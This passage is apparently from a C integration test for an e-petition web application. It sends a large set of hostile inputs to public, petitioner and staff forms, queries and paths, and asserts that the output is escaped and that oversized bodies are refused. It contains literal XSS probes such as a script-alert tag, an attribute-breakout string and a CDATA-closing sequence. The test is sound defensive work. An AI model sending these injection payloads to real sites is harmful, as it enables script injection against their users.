fresh_review_draft(void)
{
    struct draft_record d = {.petitioner_id = other_petitioner,
                             .state = PETITION_UNDER_REVIEW,
                             .state_changed_at = time(NULL),
                             .content = "{}",
                             .supporters_min = 5,
                             .supporters_days = 30,
                             .member_days = 30,
                             .members_max = 5,
                             .round = 1,
                             .submitted_at = time(NULL),
                             .created_at = 1,
                             .updated_at = 1};
    review_draft = fixture_draft_add(&H, &d);
    snprintf(review_path, sizeof(review_path), "/{lang}/clerk/petitions/%lld",
             (long long)review_draft);
}

static const struct target public_targets[] = {
    /* Searches, lists and filters. */
    {"search", ANON, "GET", "/{lang}/petitions", "q", NULL, T_ECHO, NULL, NULL},
    {"list status", ANON, "GET", "/{lang}/petitions", "status", NULL, T_SOME, NULL, NULL},
    {"list type", ANON, "GET", "/{lang}/petitions", "type", NULL, T_SOME, NULL, NULL},
    {"list sort", ANON, "GET", "/{lang}/petitions", "sort", NULL, T_SOME, NULL, NULL},
    {"list page", ANON, "GET", "/{lang}/petitions", "page", NULL, T_SOME, NULL, NULL},
    {"list subject", ANON, "GET", "/{lang}/petitions", "subject", NULL, T_SOME, NULL, NULL},
    {"list keyword", ANON, "GET", "/{lang}/petitions", "keyword", NULL, T_SOME, NULL, NULL},
    {"list member", ANON, "GET", "/{lang}/petitions", "member", NULL, T_SOME, NULL, NULL},
    {"list parliament", ANON, "GET", "/{lang}/petitions", "parliament", NULL, T_SOME, NULL, NULL},
    {"list session", ANON, "GET", "/{lang}/petitions", "session", NULL, T_SOME, NULL, NULL},
    {"list responded", ANON, "GET", "/{lang}/petitions", "responded", NULL, T_SOME, NULL, NULL},
    {"search with a filter", ANON, "GET", "/{lang}/petitions", "q", "sort=newest&page=2", T_SOME,
     NULL, NULL},
    {"not accepted page", ANON, "GET", "/{lang}/petitions/not-accepted", "page", NULL, T_SOME, NULL,
     NULL},
    {"overdue page", ANON, "GET", "/{lang}/petitions/overdue", "page", NULL, T_SOME, NULL, NULL},
    {"keyword page", ANON, "GET", "/{lang}/keywords/belarus", "page", NULL, T_SOME, NULL, NULL},
    {"home", ANON, "GET", "/{lang}", "q", NULL, T_SOME, NULL, NULL},
    /* The API and its exports. */
    {"API search", ANON, "GET", "/api/v1/petitions", "q", NULL, T_API | T_NOLANG, NULL, NULL},
    {"API status", ANON, "GET", "/api/v1/petitions", "status", NULL, T_API | T_NOLANG | T_SOME,
     NULL, NULL},
    {"API sort", ANON, "GET", "/api/v1/petitions", "sort", NULL, T_API | T_NOLANG | T_SOME, NULL,
     NULL},
    {"API keyword", ANON, "GET", "/api/v1/petitions", "keyword", NULL, T_API | T_NOLANG | T_SOME,
     NULL, NULL},
    {"API page", ANON, "GET", "/api/v1/petitions", "page", NULL, T_API | T_NOLANG | T_SOME, NULL,
     NULL},
    {"API lang", ANON, "GET", "/api/v1/petitions", "lang", NULL, T_API | T_NOLANG | T_SOME, NULL,
     NULL},
    {"CSV search", ANON, "GET", "/api/v1/petitions.csv", "q", NULL, T_API | T_NOLANG, NULL, NULL},
    {"XML search", ANON, "GET", "/api/v1/petitions.xml", "q", NULL, T_API | T_NOLANG | T_SOME, NULL,
     NULL},
    {"API keywords", ANON, "GET", "/api/v1/keywords", "lang", NULL, T_API | T_NOLANG | T_SOME, NULL,
     NULL},
    {"API count region", ANON, "GET", "/api/v1/petitions/e-6512/count", "region", NULL,
     T_API | T_NOLANG | T_SOME, NULL, NULL},
    /* Paths. */
    {"static file", ANON, "GET", "/static/{v}", NULL, NULL, T_PATH | T_NOLANG, NULL, NULL},
    {"petition page", ANON, "GET", "/{lang}/petitions/{v}", NULL, NULL, T_PATH, NULL, NULL},
    {"sign page", ANON, "GET", "/{lang}/petitions/{v}/sign", NULL, NULL, T_PATH, NULL, NULL},
    {"keyword", ANON, "GET", "/{lang}/keywords/{v}", NULL, NULL, T_PATH, NULL, NULL},
    {"subject", ANON, "GET", "/{lang}/subjects/{v}", NULL, NULL, T_PATH, NULL, NULL},
    {"keyword feed", ANON, "GET", "/{lang}/feeds/keywords/{v}", NULL, NULL, T_PATH, NULL, NULL},
    {"API petition", ANON, "GET", "/api/v1/petitions/{v}", NULL, NULL, T_PATH | T_API | T_NOLANG,
     NULL, NULL},
    {"confirmation link", ANON, "GET", "/{lang}/signatures/{v}", NULL, NULL, T_PATH, NULL, NULL},
    {"invitation link", ANON, "GET", "/{lang}/support/{v}", NULL, NULL, T_PATH, NULL, NULL},
    {"development mail", ANON, "GET", "/dev/mail/{v}", NULL, NULL, T_PATH | T_NOLANG, NULL, NULL},
    /* Links' query parameters. */
    {"activation u", ANON, "GET", "/{lang}/account/activate", "u", "t=abc", T_SOME, NULL, NULL},
    {"activation t", ANON, "GET", "/{lang}/account/activate", "t", "u=1", 0, NULL, NULL},
    {"reset t", ANON, "GET", "/{lang}/password/reset", "t", "u=1&x=1", T_SOME, NULL, NULL},
    {"confirmation t", ANON, "GET", "/{lang}/signatures/1", "t", NULL, 0, NULL, NULL},
    {"invitation t", ANON, "GET", "/{lang}/support/1", "t", "r=1", T_SOME, NULL, NULL},
    {"sign-in next", ANON, "GET", "/{lang}/sign-in", "next", NULL, 0, NULL, NULL},
    /* Signing: every field; a name or a city may be accepted (a row held
     * or pending, an e-mail queued), the others are refused. */
    {"sign first name", ANON, "POST", "/{lang}/petitions/e-6512/sign", "first_name", SIGNER, T_ECHO,
     SIGN_WRITES, "signatures"},
    {"sign last name", ANON, "POST", "/{lang}/petitions/e-6512/sign", "last_name", SIGNER,
     T_ECHO | T_SOME, SIGN_WRITES, "signatures"},
    {"sign email", ANON, "POST", "/{lang}/petitions/e-6512/sign", "email", SIGNER, T_ECHO,
     SIGN_WRITES, "signatures"},
    {"sign city", ANON, "POST", "/{lang}/petitions/e-6512/sign", "city", SIGNER, T_ECHO | T_SOME,
     SIGN_WRITES, "signatures"},
    {"sign country", ANON, "POST", "/{lang}/petitions/e-6512/sign", "country", SIGNER, T_SOME,
     SIGN_WRITES, "signatures"},
    {"sign province", ANON, "POST", "/{lang}/petitions/e-6512/sign", "province", SIGNER, T_SOME,
     SIGN_WRITES, "signatures"},
    {"sign postal code", ANON, "POST", "/{lang}/petitions/e-6512/sign", "postal_code", SIGNER,
     T_ECHO, SIGN_WRITES, "signatures"},
    {"sign phone", ANON, "POST", "/{lang}/petitions/e-6512/sign", "phone", SIGNER, T_ECHO | T_SOME,
     SIGN_WRITES, "signatures"},
    {"sign eligible", ANON, "POST", "/{lang}/petitions/e-6512/sign", "eligible", SIGNER, T_SOME,
     SIGN_WRITES, "signatures"},
    {"sign terms", ANON, "POST", "/{lang}/petitions/e-6512/sign", "terms", SIGNER, T_SOME,
     SIGN_WRITES, "signatures"},
    {"confirmation", ANON, "POST", "/{lang}/signatures/1", "t", NULL, T_SOME, NULL, NULL},
    /* Accounts. */
    {"register email", ANON, "POST", "/{lang}/register", "email", REGISTRANT, T_ECHO,
     "users outbox", "users"},
    {"register first name", ANON, "POST", "/{lang}/register", "first_name",
     "email=not-an-address&password=a+long+enough+password&terms=1", T_ECHO, NULL, NULL},
    {"register city", ANON, "POST", "/{lang}/register", "city",
     "email=not-an-address&password=a+long+enough+password", T_ECHO | T_SOME, NULL, NULL},
    {"register postal code", ANON, "POST", "/{lang}/register", "postal_code",
     "email=not-an-address", T_ECHO | T_SOME, NULL, NULL},
    {"register password", ANON, "POST", "/{lang}/register", "password", REGISTRANT, T_FEW,
     "users outbox", "users"},
    /* The value as address and password at once: one Argon2id check each. */
    {"sign-in", ANON, "POST", "/{lang}/sign-in", "email", "password={v}", T_ECHO | T_FEW,
     "sign_in_failures", NULL},
    {"forgotten password", ANON, "POST", "/{lang}/password/forgot", "email", NULL, T_ECHO, NULL,
     NULL},
    {"password reset", ANON, "POST", "/{lang}/password/reset", "password",
     "password2=x&u=1&x=1&t=abc", T_SOME, NULL, NULL},
};

static const struct target staff_targets[] = {
    /* The petitioner's draft: its texts are accepted (and read back
     * below), the rest refused. */
    {"draft prayer", PETITIONER, "POST", "/{lang}/account/petition", "prayer", DRAFT, 0,
     "drafts draft_events supporters", NULL},
    {"draft grievance", PETITIONER, "POST", "/{lang}/account/petition", "grievance_1", DRAFT,
     T_SOME, "drafts draft_events supporters", NULL},
    {"draft keywords", PETITIONER, "POST", "/{lang}/account/petition", "keywords", DRAFT, T_SOME,
     "drafts draft_events supporters", NULL},
    {"draft period", PETITIONER, "POST", "/{lang}/account/petition", "period", DRAFT, T_SOME,
     "drafts draft_events supporters", NULL},
    {"draft addressee", PETITIONER, "POST", "/{lang}/account/petition", "addressee", DRAFT, T_SOME,
     "drafts draft_events supporters", NULL},
    {"draft supporter name", PETITIONER, "POST", "/{lang}/account/petition",
     "supporter_1_first_name",
     DRAFT "&supporter_1_last_name=Lee&supporter_1_email=s{n}"
           "%40support.example",
     T_SOME, "drafts draft_events supporters", NULL},
    {"draft supporter email", PETITIONER, "POST", "/{lang}/account/petition", "supporter_1_email",
     DRAFT "&supporter_1_first_name=Sam&supporter_1_last_name=Lee", T_SOME,
     "drafts draft_events supporters", NULL},
    {"draft Member", PETITIONER, "POST", "/{lang}/account/petition/member", "member", NULL, T_SOME,
     NULL, NULL},
    {"draft supporters", PETITIONER, "POST", "/{lang}/account/petition/supporters", "action", NULL,
     T_SOME, NULL, NULL},
    /* The Member's decision and the Clerk's review of a draft. */
    {"Member's decision", MEMBER, "POST", member_path, "action", NULL, 0, NULL, NULL},
    {"Member's draft", MEMBER, "GET", "/{lang}/member/petitions/{v}", NULL, NULL, T_PATH, NULL,
     NULL},
    {"Clerk's review action", CLERK, "POST", review_path, "action", NULL, T_SOME, NULL, NULL},
    {"Clerk's return reasons", CLERK, "POST", review_path, "reasons", "action=return",
     T_FRESH | T_SOME, "drafts draft_events audit_log outbox", NULL},
    {"Clerk's rejection text", CLERK, "POST", review_path, "reason_text",
     "action=reject&reason=", T_ECHO | T_FRESH | T_SOME, "drafts", NULL},
    {"Clerk's rejection reason", CLERK, "POST", review_path, "reason", "action=reject",
     T_FRESH | T_SOME, "drafts", NULL},
    /* The Clerk's other forms. */
    {"Clerk's search domain", CLERK, "GET", "/{lang}/clerk/signatures/e-6512", "domain", NULL,
     T_SOME, NULL, NULL},
    {"Clerk's search network", CLERK, "GET", "/{lang}/clerk/signatures/e-6512", "network", NULL,
     T_SOME, NULL, NULL},
    {"Clerk's search postal", CLERK, "GET", "/{lang}/clerk/signatures/e-6512", "postal_prefix",
     NULL, T_SOME, NULL, NULL},
    {"Clerk's search from", CLERK, "GET", "/{lang}/clerk/signatures/e-6512", "from", NULL, T_SOME,
     NULL, NULL},
    {"Clerk's search state", CLERK, "GET", "/{lang}/clerk/signatures/e-6512", "state", NULL, T_SOME,
     NULL, NULL},
    {"Clerk's bulk reason", CLERK, "POST", "/{lang}/clerk/signatures/e-6512", "reason",
     "bulk=invalidate&expected=999&domain=nobody.example", T_SOME, NULL, NULL},
    {"Clerk's rule value", CLERK, "POST", "/{lang}/clerk/signing-rules", "value",
     "action=add&list=block&kind=network&note=x", T_ECHO, "signing_rules audit_log",
     "signing_rules"},
    {"Clerk's rule note", CLERK, "POST", "/{lang}/clerk/signing-rules", "note",
     "action=add&list=block&kind=network&value=", T_ECHO | T_SOME, NULL, NULL},
    {"Clerk's rule kind", CLERK, "POST", "/{lang}/clerk/signing-rules", "kind",
     "action=add&list=block&value=10.0.0.0%2F8&note=x", T_SOME, NULL, NULL},
    {"Clerk's calendar", CLERK, "POST", "/{lang}/clerk/calendar", "days", "action=add", T_ECHO,
     NULL, NULL},
    {"Clerk's paper number", CLERK, "POST", "/{lang}/clerk/paper", "number",
     "date=x&text_en=A+prayer.", T_ECHO | T_SOME, NULL, NULL},
    {"Clerk's paper text", CLERK, "POST", "/{lang}/clerk/paper", "text_en", "number=", T_ECHO, NULL,
     NULL},
    {"Clerk's House page", CLERK, "GET", "/{lang}/clerk/house/{v}", NULL, NULL, T_PATH, NULL, NULL},
    {"Clerk's petition page", CLERK, "GET", "/{lang}/clerk/signatures/{v}", NULL, NULL, T_PATH,
     NULL, NULL},
    {"presentation page", MEMBER, "GET", "/{lang}/member/present/{v}", NULL, NULL, T_PATH, NULL,
     NULL},
    {"responder's page", RESPONDER, "GET", "/{lang}/responder/petitions/{v}", NULL, NULL, T_PATH,
     NULL, NULL},
    /* The administrator's forms and the audit log's filters. */
    {"staff email", ADMIN, "POST", "/{lang}/admin", "email",
     "action=add&first_name=Sam&last_name=Lee&role=clerk", T_ECHO, NULL, NULL},
    {"staff name", ADMIN, "POST", "/{lang}/admin", "first_name",
     "action=add&email=not-an-address&last_name=Lee&role=clerk", T_ECHO, NULL, NULL},
    {"staff role", ADMIN, "POST", "/{lang}/admin", "role",
     "action=add&email=staff{n}%40house.example&first_name=Sam&last_name=Lee", T_SOME, NULL, NULL},
    {"removal number", ADMIN, "POST", "/{lang}/admin/remove", "number", "reason=Spam", T_ECHO, NULL,
     NULL},
    {"removal reason", ADMIN, "POST", "/{lang}/admin/remove", "reason", "number=e-99999",
     T_ECHO | T_SOME, NULL, NULL},
    {"pause number", ADMIN, "POST", "/{lang}/admin/signing", "number", "action=pause&reason=Bots",
     T_ECHO, NULL, NULL},
    {"pause action", ADMIN, "POST", "/{lang}/admin/signing", "action", "number=e-99999&reason=Bots",
     T_SOME, NULL, NULL},
    {"parliament action", ADMIN, "POST", "/{lang}/admin/parliament", "action", NULL, T_SOME, NULL,
     NULL},
    {"audit petition", ADMIN, "GET", "/{lang}/admin/audit", "petition", NULL, T_SOME, NULL, NULL},
    {"audit action", ADMIN, "GET", "/{lang}/admin/audit", "action", NULL, T_SOME, NULL, NULL},
    {"audit before", ADMIN, "GET", "/{lang}/admin/audit", "before", NULL, T_SOME, NULL, NULL},
};

/* ---- the server and its people ----------------------------------------------------------- */

static int
start(void **state)
{
    (void)state;
    values_make();
    H.keep_alive = true;
    if (harness_start_with(&H, NULL, true))
        return -1;
    for (int w = 0; w < WHO_COUNT; w++)
        browser_init(&browsers[w], &H);
    return 0;
}

static int
stop(void **state)
{
    (void)state;
    for (int i = 0; i < nvalues; i++)
        free(values[i].v);
    return harness_stop_checked(&H);
}

static void
sign_in_everyone(void)
{
    pictures_valid = false;
    struct http_result r;
    struct browser *p = &browsers[PETITIONER];
    /* The petitioner registers and activates. */
    assert_int_equal(web_get(p, "/en/register", &r), 0);
    http_result_free(&r);
    assert_int_equal(web_post(p, "/en/register",
                              "first_name=Hal&last_name=Tile&city=Ottawa&country=Canada"
                              "&province=ON&postal_code=K1A+0A6&phone=613-555-0100"
                              "&email=hostile-petitioner%40petitions.example"
                              "&password=a+long+enough+password&eligible=1&terms=1",
                              true, &r),
                     0);
    assert_int_equal(r.status, 303);
    http_result_free(&r);
    char *mail = mail_wait(&H, "account-activation", staff[PETITIONER]);
    assert_non_null(mail);
    char *link = mail_link(mail, "/account/activate");
    assert_non_null(link);
    assert_int_equal(web_get(p, link, &r), 0);
    http_result_free(&r);
    free(link);
    free(mail);
    assert_int_equal(web_sign_in(p, staff[PETITIONER], "a long enough password"), 303);
    assert_int_equal(web_get(p, "/en/account/petition", &r), 0);
    http_result_free(&r);

    /* A draft under the Clerk's review, and one waiting for a Member. */
    struct user other = {.email = "other-petitioner@petitions.example",
                         .role = ROLE_PETITIONER,
                         .first_name = "Olga",
                         .last_name = "Other",
                         .lang = LANG_EN,
                         .created_at = 1,
                         .activated_at = 1};
    other_petitioner = fixture_user_add(&H, &other);
    fresh_review_draft();
    struct draft_record d = {.petitioner_id = other_petitioner,
                             .state = PETITION_AWAITING_MEMBER,
                             .state_changed_at = time(NULL),
                             .content = "{}",
                             .supporters_min = 5,
                             .supporters_days = 30,
                             .member_days = 30,
                             .members_max = 5,
                             .round = 1,
                             .submitted_at = time(NULL),
                             .member_asked_at = time(NULL),
                             .created_at = 1,
                             .updated_at = 1};
    d.member_id = fixture_member_id(&H, "arya");
    member_draft = fixture_draft_add(&H, &d);
    snprintf(member_path, sizeof(member_path), "/{lang}/member/petitions/%lld",
             (long long)member_draft);

    /* Each staff member signed in, with the token of the session: a page
     * of their role with a form. */
    char member_page[80];
    snprintf(member_page, sizeof(member_page), "/en/member/petitions/%lld",
             (long long)member_draft);
    const char *pages[WHO_COUNT] = {NULL,        NULL,        "/en/clerk/signing-rules",
                                    member_page, "/en/admin", "/en/responder"};
    for (int w = CLERK; w < WHO_COUNT; w++) {
        assert_int_equal(web_sign_in(&browsers[w], staff[w], "petitions-demo"), 303);
        browsers[w].csrf[0] = '\0';
        assert_int_equal(web_get(&browsers[w], pages[w], &r), 0);
        if (r.status != 200)
            fail_msg("%s: %ld", pages[w], r.status);
        http_result_free(&r);
        if (w != RESPONDER && !browsers[w].csrf[0])
            fail_msg("no form on %s", pages[w]);
    }
}

/* ---- the tests --------------------------------------------------------------------------- */

static void
matrix_has_every_kind(void **state)
{
    (void)state;
    int per[K_KINDS] = {0};
    for (int i = 0; i < nvalues; i++)
        per[values[i].kind]++;
    for (int k = 0; k < K_KINDS; k++)
        if (per[k] == 0)
            fail_msg("no %s value", kind_names[k]);
    if (nvalues < 250)
        fail_msg("%d values, fewer than 250", nvalues);
}

/* The server's first round of its own work (deadlines, closing, the
 * counts check, retention: jobs/scheduler.c) writes to the register;
 * the pictures of the tables start once it is done, which its last step
 * records in meta "retention_run". */
static void
wait_for_first_round(void)
{
    for (int i = 0; i < 400; i++) {
        char *done = fixture_meta(&H, "retention_run");
        free(done);
        if (done)
            return;
        struct timespec ts = {0, 50 * 1000 * 1000};
        nanosleep(&ts, NULL);
    }
    fail_msg("the server's first round of jobs did not end within 20 s");
}

static void
public_forms_and_queries(void **state)
{
    (void)state;
    wait_for_first_round();
    pictures_valid = false;
    /* The token of a signed-out form (the register's), for the others. */
    struct http_result r;
    assert_int_equal(web_get(&browsers[ANON], "/en/register", &r), 0);
    http_result_free(&r);
    assert_true(browsers[ANON].csrf[0]);
    for (size_t i = 0; i < sizeof(public_targets) / sizeof(public_targets[0]); i++)
        run_group(&public_targets[i]);
}

static void
staff_forms_and_queries(void **state)
{
    (void)state;
    sign_in_everyone();
    for (size_t i = 0; i < sizeof(staff_targets) / sizeof(staff_targets[0]); i++)
        run_group(&staff_targets[i]);
}

/* A body over the 64 KiB limit, to forms of every kind: 413 in the page's
 * language, nothing written. */
static void
oversized_bodies_refused(void **state)
{
    (void)state;
    static const struct {
        const char *path;
        enum who who;
    } forms[] = {{"/fr/petitions/e-6512/sign", ANON},
                 {"/en/register", ANON},
                 {"/fr/sign-in", ANON},
                 {"/en/password/forgot", ANON},
                 {"/fr/account/petition", PETITIONER},
                 {"/en/clerk/signing-rules", CLERK},
                 {"/fr/admin/signing", ADMIN}};
    struct fixture_tables before, after;
    char diff[1024];
    size_t n = 80 * 1024; /* over 64 KiB, small enough for the socket to take whole */
    char *body = malloc(n + 1);
    assert_non_null(body);
    memcpy(body, "first_name=", 11);
    memset(body + 11, 'A', n - 11);
    body[n] = '\0';
    fixture_tables_snapshot(&H, &before);
    for (size_t i = 0; i < sizeof(forms) / sizeof(forms[0]); i++) {
        struct http_result r;
        send(&browsers[forms[i].who], "POST", forms[i].path, body, &r);
        if (r.status != 413)
            fail_msg("%s: a body of 80 KiB answered %ld", forms[i].path, r.status);
        bool fr = forms[i].path[1] == 'f';
        assert_true(body_has(&r, fr ? "<html lang=\"fr\"" : "<html lang=\"en\""));
        http_result_free(&r);
    }
    fixture_tables_snapshot(&H, &after);
    if (fixture_tables_diff(&before, &after, diff, sizeof(diff)))
        fail_msg("oversized bodies wrote: %s", diff);
    free(body);
    alive("oversized bodies");
}

/* Whether a string of doc (at any depth) is text. */
static bool
json_has_text(json_t *doc, const char *text)
{
    if (json_is_string(doc))
        return strcmp(json_string_value(doc), text) == 0;
    if (json_is_array(doc)) {
        for (size_t i = 0; i < json_array_size(doc); i++)
            if (json_has_text(json_array_get(doc, i), text))
                return true;
        return false;
    }
    const char *k;
    json_t *v;
    json_object_foreach(doc, k, v)
    {
        if (json_has_text(v, text))
            return true;
    }
    return false;
}

/* Whatever was accepted is shown escaped wherever it is shown. */
static void
accepted_values_shown_escaped(void **state)
{
    (void)state;
    struct http_result r;
    /* The Clerk's list of e-6512's signatures: the names signed above. */
    const char *clerk_pages[] = {"/en/clerk/signatures/e-6512?state=pending",
                                 "/fr/clerk/signatures/e-6512?state=pending",
                                 "/en/clerk/signatures/e-6512?state=suspect"};
    for (size_t p = 0; p < sizeof(clerk_pages) / sizeof(clerk_pages[0]); p++) {
        send(&browsers[CLERK], "GET", clerk_pages[p], NULL, &r);
        if (r.status != 200)
            fail_msg("%s: %ld %.3000s", clerk_pages[p], r.status, r.body);
        for (int i = 0; i < nvalues; i++)
            if (has_markup(&values[i]) && values[i].len > 2 &&
                memmem(r.body, r.len, values[i].v, values[i].len))
                fail_msg("%s shows value #%d unescaped", clerk_pages[p], i);
        assert_false(body_has(&r, "<script>alert(1)"));
        /* The first value, a signatory's first name (and city) on the list. */
        if (p == 0 && !body_has(&r, "&lt;script&gt;alert(1)&lt;/script&gt;"))
            fail_msg("%s does not show the names signed, escaped", clerk_pages[p]);
        http_result_free(&r);
    }
    /* The draft, its preview, its last prayer. */
    struct browser *pb = &browsers[PETITIONER];
    const char *draft_pages[] = {"/en/account/petition", "/fr/account/petition", "/en/account"};
    for (size_t p = 0; p < sizeof(draft_pages) / sizeof(draft_pages[0]); p++) {
        send(pb, "GET", draft_pages[p], NULL, &r);
        assert_int_equal(r.status, 200);
        assert_false(body_has(&r, "<script>alert(1)"));
        assert_false(body_has(&r, "<img src=x"));
        http_result_free(&r);
    }
    /* A prayer with markup saved, then shown escaped. */
    const struct hostile *v = &values[0];
    char *venc = enc(v), form[1024];
    snprintf(form, sizeof(form), "prayer=%s&%s", venc,
             "lang=en&addressee=government&grievance_1=Rural+homes.&period=30&subject="
             "&keywords=Broadband&member=");
    free(venc);
    send(pb, "POST", "/en/account/petition", form, &r);
    assert_int_equal(r.status, 303);
    http_result_free(&r);
    send(pb, "GET", "/en/account/petition", NULL, &r);
    assert_true(body_has(&r, "&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert_false(body_has(&r, "<script>alert(1)"));
    http_result_free(&r);

    /* A paper petition whose texts carry markup, recorded by the Clerk,
     * is shown escaped on its page and in the lists, as the same text in
     * the API's JSON and escaped in the XML; the CSV has its row. */
    static const char markup_en[] = "<script>alert(7)</script> \"quoted\" & 'apostrophe' ]]> end.";
    static const char paper[] =
        "number=&date=%s&member=arya&committee=FAAE&ministry=foreign-affairs"
        "&addressee=government&text_en=%s&text_fr=Texte+%%3Cb%%3Egras%%3C%%2Fb%%3E."
        "&subject=foreign-affairs&keywords=belarus&signatures=312";
    char today[16];
    time_t now = time(NULL) - 5 * 3600; /* Eastern time, near enough at noon */
    struct tm tm;
    gmtime_r(&now, &tm);
    strftime(today, sizeof(today), "%Y-%m-%d", &tm);
    struct hostile text = {K_MARKUP, (char *)markup_en, sizeof(markup_en) - 1};
    venc = enc(&text);
    char paper_form[1200], number[64] = "";
    snprintf(paper_form, sizeof(paper_form), paper, today, venc);
    free(venc);
    send(&browsers[CLERK], "POST", "/en/clerk/paper", paper_form, &r);
    if (r.status != 303)
        fail_msg("the paper petition: %ld %.2000s", r.status, r.body);
    const char *to = http_header(&r, "Location");
    assert_non_null(to);
    assert_true(strncmp(to, "/en/petitions/", 14) == 0);
    snprintf(number, sizeof(number), "%s", to + 14);
    http_result_free(&r);
    char *escaped = html_escaped(markup_en, sizeof(markup_en) - 1);
    char path[200];
    const char *pages[] = {"/en/petitions/", "/fr/petitions/", "/en/petitions?type=paper",
                           "/fr/petitions?q=apostrophe"};
    for (size_t p = 0; p < sizeof(pages) / sizeof(pages[0]); p++) {
        snprintf(path, sizeof(path), "%s%s", pages[p], p < 2 ? number : "");
        send(&browsers[ANON], "GET", path, NULL, &r);
        if (r.status != 200)
            fail_msg("%s: %ld", path, r.status);
        assert_false(body_has(&r, "<script>alert(7)"));
        assert_false(body_has(&r, "<b>gras"));
        const char *want = p == 0 ? escaped : p == 1 ? "Texte &lt;b&gt;gras&lt;/b&gt;." : NULL;
        if (want && !body_has(&r, want))
            fail_msg("%s does not show the text escaped: %s", path, want);
        http_result_free(&r);
    }
    free(escaped);
    snprintf(path, sizeof(path), "/api/v1/petitions/%s", number);
    send(&browsers[ANON], "GET", path, NULL, &r);
    assert_int_equal(r.status, 200);
    json_t *doc = json_loadb(r.body, r.len, 0, NULL);
    if (!doc || !json_has_text(doc, markup_en))
        fail_msg("%s: the text is not in the JSON as it was typed", path);
    json_decref(doc);
    http_result_free(&r);
    send(&browsers[ANON], "GET", "/api/v1/petitions.csv?type=paper", NULL, &r);
    assert_int_equal(r.status, 200);
    /* Its row (the CSV holds no text of a petition, only its facts). */
    char row[80];
    snprintf(row, sizeof(row), "\r\n%s,paper,", number);
    assert_true(body_has(&r, row));
    http_result_free(&r);
    snprintf(path, sizeof(path), "/api/v1/petitions/%s.xml", number);
    send(&browsers[ANON], "GET", path, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_false(body_has(&r, "<script>alert(7)"));
    assert_true(body_has(&r, "&lt;script&gt;alert(7)&lt;/script&gt;"));
    assert_false(body_has(&r, "]]> end"));
    http_result_free(&r);

    /* A search shown back in the box, and in the API's JSON as JSON. */
    send(&browsers[ANON], "GET", "/fr/petitions?q=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E", NULL,
         &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert_false(body_has(&r, "<script>alert(1)"));
    http_result_free(&r);
    send(&browsers[ANON], "GET", "/api/v1/petitions?q=%3Cscript%3E", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_string_equal(http_header(&r, "Content-Type"), "application/json");
    doc = json_loadb(r.body, r.len, 0, NULL);
    assert_non_null(doc); /* what it found is JSON, its texts as typed (above) */
    json_decref(doc);
    http_result_free(&r);
}

/* The server's standard error: no sanitizer report, ever. */
static void
sanitizers_silent(void **state)
{
    (void)state;
    char *log = harness_log(&H);
    assert_non_null(log);
    static const char *const reports[] = {"AddressSanitizer", "LeakSanitizer",
                                          "runtime error:", "UndefinedBehaviorSanitizer",
                                          "SUMMARY:"};
    for (size_t i = 0; i < sizeof(reports) / sizeof(reports[0]); i++)
        if (strstr(log, reports[i]))
            fail_msg("the server's log holds a sanitizer report (%s): %s", reports[i], log);
    free(log);
    fprintf(stderr, "# %d hostile values, %u requests\n", nvalues, sent);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(matrix_has_every_kind),         cmocka_unit_test(public_forms_and_queries),
        cmocka_unit_test(staff_forms_and_queries),       cmocka_unit_test(oversized_bodies_refused),
        cmocka_unit_test(accepted_values_shown_escaped), cmocka_unit_test(sanitizers_silent),
    };
    return cmocka_run_group_tests(tests, start, stop);
}
